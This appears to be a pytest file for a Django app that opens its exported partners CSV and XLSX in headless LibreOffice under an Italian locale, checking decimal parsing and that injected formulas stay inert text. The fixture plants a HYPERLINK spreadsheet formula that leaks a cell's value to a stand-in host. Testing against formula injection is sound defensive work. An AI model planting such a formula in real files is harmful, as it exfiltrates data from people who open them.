"""The downloads as a spreadsheet in an Italian locale reads them (issue 23): LibreOffice Calc,
headless, with an Italian profile, opens partners.csv and partners.xlsx as a person's would.

The CSV is for programs: an Italian spreadsheet takes its "29.563" for twenty-nine thousand
(the test says so, as the reason for the XLSX). The XLSX's numbers are numbers, shown «29,563»;
its texts are texts, a formula among them shown as written and never run.
"""

import csv
import subprocess

import pytest
from openpyxl import load_workbook

from relations.models import Partner

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("seed"), pytest.mark.slow]

ITALIAN_PROFILE = """<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry">
<item oor:path="/org.openoffice.Setup/L10N">
  <prop oor:name="ooSetupSystemLocale" oor:op="fuse"><value>it-IT</value></prop>
</item>
<item oor:path="/org.openoffice.Setup/L10N"><prop oor:name="ooLocale" oor:op="fuse"><value>it-IT</value></prop></item>
</oor:items>
"""
# CSV out, ";"-separated, UTF-8, each cell as the spreadsheet shows it (the filter's 9th option).
AS_SHOWN = "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,true"


def libreoffice(tmp_path, source, target, outdir):
    profile = tmp_path / "profile" / "user"
    profile.mkdir(parents=True, exist_ok=True)
    (profile / "registrymodifications.xcu").write_text(ITALIAN_PROFILE)
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--headless",
            "--convert-to",
            target,
            "--outdir",
            str(outdir),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    return outdir / f"{source.stem}.{target.split(':')[0]}"


def shown(tmp_path, source):
    """Each row of ``source`` as LibreOffice in Italian shows it, by the partner's identifier."""
    converted = libreoffice(tmp_path, source, AS_SHOWN, tmp_path / f"shown-{source.suffix[1:]}")
    rows = list(csv.reader(converted.open(encoding="utf-8"), delimiter=";"))
    return {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}


@pytest.fixture
def downloads(client, tmp_path):
    Partner.objects.filter(slug="nagoya").update(name_it='=HYPERLINK("http://x/?leak="&A1;"clicca")')
    paths = {}
    for fmt in ("csv", "xlsx"):
        paths[fmt] = tmp_path / f"partners.{fmt}"
        paths[fmt].write_bytes(client.get(f"/it/data/partners.{fmt}").content)
    return paths


def test_libreoffice_in_italian_reads_the_xlsx_numbers_as_numbers_and_the_csv_ones_wrong(tmp_path, downloads):
    assert shown(tmp_path, downloads["xlsx"])["chongqing"]["latitude"] == "29,563"
    assert shown(tmp_path, downloads["csv"])["chongqing"]["latitude"] == "29563"  # why the XLSX exists
    roundtrip = libreoffice(tmp_path, downloads["xlsx"], "xlsx", tmp_path / "roundtrip")
    sheet = load_workbook(roundtrip).active
    header = [cell.value for cell in sheet[1]]
    (chongqing,) = [row for row in sheet.iter_rows(min_row=2) if row[0].value == "chongqing"]
    latitude = chongqing[header.index("latitude")]
    assert (latitude.value, latitude.data_type) == (29.563, "n")


def test_libreoffice_shows_a_pasted_formula_as_text_and_never_runs_it(tmp_path, downloads):
    formula = '=HYPERLINK("http://x/?leak="&A1;"clicca")'
    assert shown(tmp_path, downloads["xlsx"])["nagoya"]["name"] == formula
    assert shown(tmp_path, downloads["csv"])["nagoya"]["name"] == "'" + formula
